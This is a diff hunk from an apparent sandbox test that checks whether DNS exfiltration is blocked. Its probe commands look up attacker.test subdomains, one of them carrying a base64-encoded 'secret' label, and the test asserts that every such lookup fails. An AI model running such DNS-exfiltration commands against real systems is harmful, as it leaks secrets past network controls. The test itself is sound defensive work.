@@ -197,7 +197,7 @@ describe("an allow-list with a secret", () => {
       "python3 /tmp/probe.py resolve c2VjcmV0.attacker.test; " +
         `python3 /tmp/probe.py dns udp1.attacker.test ${FAKE.resolver} udp; ` +
         `python3 /tmp/probe.py dns tcp1.attacker.test ${FAKE.resolver} tcp; ` +
-        "python3 /tmp/probe.py dns udp2.attacker.test 8.8.8.8 udp",
+        `python3 /tmp/probe.py dns udp2.attacker.test 198.51.100.99 udp`,
     );
     assert.match(out, /^failed gaierror/m);
     assert.equal(out.match(/^rcode=3 answers=0$/gm)?.length, 3, out);
